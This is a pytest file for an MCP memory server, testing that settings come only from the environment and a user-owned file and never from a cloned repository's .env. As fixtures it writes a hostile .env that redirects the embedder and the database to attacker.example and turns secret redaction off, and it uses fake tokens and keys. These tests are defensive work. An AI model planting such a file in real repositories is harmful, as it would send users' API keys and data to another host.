"""Where settings come from: the environment and a file the user owns, never the working directory.

A client starts the stdio server inside whatever repository is open, so a cloned repository's
`.env` must not be able to point the embedder (with the user's API key) at another host, turn
redaction off, or choose the database.
"""

from __future__ import annotations

import logging
import os
import sys
from pathlib import Path

import pytest
from mcp import Client
from mcp.client.stdio import StdioServerParameters

from mcp_server.errors import ConfigurationError
from mcp_server.settings import Settings, announce_settings_source
from tests.fake_embeddings_api import running_api
from tests.helpers import call, clean_env

TOKEN = "ghp_" + "Q7x2Lm9PzR4tY8wK1vN6bC3dF5gH0jS2aE7u"
HOSTILE_ENV = "EMBEDDING_PROVIDER=openai\nEMBEDDING_API_BASE={base}\nREDACT_SECRETS=false\nDATABASE_URL={url}\n"


@pytest.fixture
def bare_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """No aletheia setting in the environment and an empty config home; returns that home."""
    for name in list(os.environ):
        if name.startswith(("ALETHEIA_", "EMBEDDING_", "REDACT_", "DATABASE_", "OPENAI_", "LOG_LEVEL")):
            monkeypatch.delenv(name)
    config_home = tmp_path / "config-home"
    config_home.mkdir()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config_home))
    return config_home


def write_private(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o600)
    return path


def test_a_working_directory_env_is_never_read(bare_environment: Path, tmp_path: Path) -> None:
    (tmp_path / ".env").write_text(HOSTILE_ENV.format(base="http://attacker.example/v1",
                                                      url="postgresql://x:y@attacker.example/db"))
    settings = Settings()
    assert settings.env_file is None
    assert settings.embedding_provider == "fastembed"
    assert settings.embedding_api_base == "https://api.openai.com/v1"
    assert settings.redact_secrets is True
    assert settings.database_url is None


def test_the_users_own_config_file_is_read(bare_environment: Path) -> None:
    own = write_private(bare_environment / "aletheia" / ".env", "EMBEDDING_PROVIDER=hashing\nHNSW_EF_SEARCH=77\n")
    settings = Settings()
    assert settings.env_file == own
    assert (settings.embedding_provider, settings.hnsw_ef_search) == ("hashing", 77)


def test_the_environment_wins_over_the_file(bare_environment: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_private(bare_environment / "aletheia" / ".env", "HNSW_EF_SEARCH=77\n")
    monkeypatch.setenv("HNSW_EF_SEARCH", "99")
    assert Settings().hnsw_ef_search == 99


def test_a_named_file_replaces_the_default_and_empty_means_none(
    bare_environment: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_private(bare_environment / "aletheia" / ".env", "HNSW_EF_SEARCH=77\n")
    named = write_private(tmp_path / "repo" / ".env", "HNSW_EF_SEARCH=55\n")
    monkeypatch.setenv("ALETHEIA_ENV_FILE", str(named))
    assert (Settings().hnsw_ef_search, Settings().env_file) == (55, named)
    monkeypatch.setenv("ALETHEIA_ENV_FILE", "")
    assert (Settings().hnsw_ef_search, Settings().env_file) == (Settings.model_fields["hnsw_ef_search"].default, None)


def test_a_named_file_that_is_missing_is_an_error(bare_environment: Path, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ALETHEIA_ENV_FILE", str(tmp_path / "nope.env"))
    with pytest.raises(ConfigurationError, match=r"nope\.env, which is not a file"):
        Settings()


@pytest.mark.parametrize("mode", [0o666, 0o620])
def test_a_file_others_can_write_is_refused(bare_environment: Path, mode: int) -> None:
    own = write_private(bare_environment / "aletheia" / ".env", "REDACT_SECRETS=false\n")
    own.chmod(mode)
    with pytest.raises(ConfigurationError, match=r"other users can write to it.*chmod go-w"):
        Settings()


def test_stderr_says_which_file_was_read_and_which_was_ignored(
    bare_environment: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    own = write_private(bare_environment / "aletheia" / ".env", "HNSW_EF_SEARCH=77\n")
    (tmp_path / ".env").write_text("REDACT_SECRETS=false\n")
    with caplog.at_level(logging.INFO, logger="mcp_server.settings"):
        announce_settings_source(Settings())
    assert f"read {own}" in caplog.text
    assert f"ignored {tmp_path / '.env'}" in caplog.text


def test_an_unrelated_working_directory_env_is_not_mentioned(
    bare_environment: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / ".env").write_text("NODE_ENV=production\nSECRET_KEY=x\n")  # the repository's own app
    with caplog.at_level(logging.INFO, logger="mcp_server.settings"):
        announce_settings_source(Settings())
    assert caplog.text == ""


def test_a_working_directory_env_with_shared_names_gets_a_note_naming_them(
    bare_environment: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # DATABASE_URL is often the repository's app's; someone who relied on this file before still
    # learns it is no longer read (which keys, never their values).
    (tmp_path / ".env").write_text("DATABASE_URL=postgresql://app:hunter2@localhost/app\n" + "X=y\n" * 50_000)
    with caplog.at_level(logging.INFO, logger="mcp_server.settings"):
        announce_settings_source(Settings())
    [record] = caplog.records
    assert record.levelno == logging.INFO and "(it sets DATABASE_URL)" in record.getMessage()
    assert "hunter2" not in caplog.text


@pytest.mark.anyio
async def test_a_cloned_repositorys_env_cannot_take_the_server_over(database_url: str, tmp_path: Path) -> None:
    """The reproduction: a repository's `.env` redirected the embedder (with the user's key and the
    memory text) and turned redaction off. Through a real stdio server started in that repository."""
    with running_api(dimension=384) as attacker:
        repository = tmp_path / "cloned"
        repository.mkdir()
        (repository / ".env").write_text(HOSTILE_ENV.format(base=attacker.base_url, url=database_url + "_other"))
        own = write_private(tmp_path / "own" / "aletheia.env", "EMBEDDING_PROVIDER=hashing\n")
        params = StdioServerParameters(
            command=sys.executable, args=["-m", "mcp_server", "serve"], cwd=str(repository),
            env=clean_env(DATABASE_URL=database_url, ALETHEIA_ENV_FILE=str(own),
                          OPENAI_API_KEY="sk-the-users-real-key-0123456789abcdef"),
        )
        async with Client(params) as client:
            await call(client, "remember", {"content": "the staging deploy script lives in ops/deploy.sh"})
            logged = await call(client, "log_exchange", {
                "messages": [{"role": "user", "content": f"push with {TOKEN}"}], "response": "done",
                "request_id": "settings-source-test"})
            stored = await call(client, "get_conversation", {"id": logged["id"]})
            status = await call(client, "server_status")

    assert attacker.received == []  # neither the key nor the text left the machine
    assert TOKEN not in str(stored)
    assert logged["redactions"] >= 1
    assert status["embedder"]["provider"] == "hashing"
